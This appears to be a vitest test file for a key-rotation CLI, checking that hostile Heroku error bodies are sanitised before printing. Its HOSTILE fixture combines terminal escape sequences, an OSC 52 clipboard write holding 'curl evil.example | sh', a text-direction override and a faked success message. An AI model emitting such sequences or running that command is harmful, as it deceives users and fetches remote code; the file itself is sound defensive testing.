import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { HerokuEmulator } from '../../emulators/heroku/emulator.ts';
import { runCli } from '../helpers/cli.ts';
import { testKey } from '../helpers/keys.ts';

/**
 * A provider's error body is not trusted text: through the real CLI, a hostile answer cannot
 * drive the terminal (clear the screen, fake a line, write the clipboard with OSC 52), cannot
 * print a known key in an escaped spelling, and a body of unknown shape (a proxy's HTML page)
 * is not printed at all: the status and the provider's error code only.
 */
const heroku = new HerokuEmulator({ releaseMs: 0 });
let token: string;
let dir: string;
const oldKey = testKey();
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
const HOSTILE = `\x1b[2J\x1b[H\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07\r\u202eRotation complete: every target holds the new key\x9b31m`;

beforeAll(async () => {
  await heroku.start();
  token = heroku.addToken({ scopes: ['read-protected', 'write-protected'] });
  heroku.seedApp('api', { OPENAI_API_KEY: oldKey });
});
afterAll(() => heroku.stop());
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'keyrot-provider-text-'));
  await writeFile(join(dir, '.env'), `OPENAI_API_KEY=${oldKey}\n`, { mode: 0o600 });
  await writeFile(
    join(dir, 'targets.yaml'),
    `version: 1\nkey:\n  verify: false\nenvironments:\n  p:\n    targets:\n      - type: dotenv\n        path: .env\n      - type: heroku\n        app: api\n        endpoint: ${heroku.url}\n        token: env:HEROKU_TOKEN\n`,
  );
  return () => rm(dir, { recursive: true, force: true });
});

/** `keyrot plan` (text, then --json) while Heroku answers the config-vars read with `fault`. */
async function planAgainst(fault: { status: number; headers?: Record<string, string>; body: unknown }) {
  const outputs: Array<{ all: string; stdout: string }> = [];
  for (const json of [false, true]) {
    heroku.server.failNext({ method: 'GET', path: '/apps/api/config-vars', ...fault });
    const r = await runCli(['plan', ...(json ? ['--json'] : [])], { cwd: dir, env: { HEROKU_TOKEN: token } });
    expect(r.code, r.stderr).toBe(1); // the Heroku target is not ready
    outputs.push({ all: r.stdout + r.stderr, stdout: r.stdout });
  }
  return outputs as [{ all: string; stdout: string }, { all: string; stdout: string }];
}

describe('provider error text', () => {
  it('a known error shape: its message is kept, without control sequences, on one line, cut to 300 characters', async () => {
    const [text, json] = await planAgainst({ status: 422, body: { id: 'invalid_params', message: `${HOSTILE}${'x'.repeat(5000)}` } });
    for (const out of [text.all, json.all]) {
      expect(out).not.toMatch(CONTROL);
      expect(out).not.toContain('52;c;');
      expect(out).not.toContain('x'.repeat(301));
    }
    expect(text.all).toContain('(Heroku said: Rotation complete: every target holds the new key');
    expect(JSON.parse(json.stdout).targets[1].reason).toContain('Heroku said: Rotation complete: every target holds the new key');
  });

  it('a known key JSON-escaped in the message (\\u002d for "-") is redacted', async () => {
    const escaped = oldKey.replace(/-/g, '\\u002d');
    const [text, json] = await planAgainst({ status: 422, body: { id: 'invalid_params', message: `the value ${escaped} is not allowed` } });
    for (const out of [text.all, json.all]) {
      expect(out).not.toContain(escaped);
      expect(out).toContain('the value [redacted sk-proj-...');
    }
  });

  it('a body of unknown shape (a proxy HTML page): the status only, none of its text', async () => {
    const page = `<html><body><h1>Gateway says hi</h1>${HOSTILE}</body></html>`;
    const [text, json] = await planAgainst({ status: 418, headers: { 'content-type': 'text/html' }, body: page });
    for (const out of [text.all, json.all]) {
      expect(out).toMatch(/Heroku answered 418 during preflight on app api/);
      expect(out).not.toMatch(/Gateway says hi|html|Rotation complete/);
      expect(out).not.toMatch(CONTROL);
    }
  });

  it('a JSON body of unknown shape: its error code only', async () => {
    const [text] = await planAgainst({ status: 418, body: { code: 'proxy_denied', detail: 'internal host db-7.corp.example refused', echo: { authorization: 'whatever' } } });
    expect(text.all).toContain('(Heroku said: proxy_denied)');
    expect(text.all).not.toMatch(/db-7|refused|authorization/);
  });
});
